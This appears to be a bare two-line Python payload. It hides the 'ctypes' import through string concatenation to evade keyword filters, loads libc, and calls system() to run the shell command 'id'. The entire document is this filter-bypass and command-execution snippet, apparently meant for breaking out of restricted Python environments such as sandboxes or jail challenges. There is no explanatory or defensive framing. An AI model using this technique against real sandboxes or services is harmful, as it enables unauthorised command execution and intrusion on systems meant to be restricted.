libc = __import__("ct" + "ypes").CDLL("libc.so.6")
libc.system(b"id")
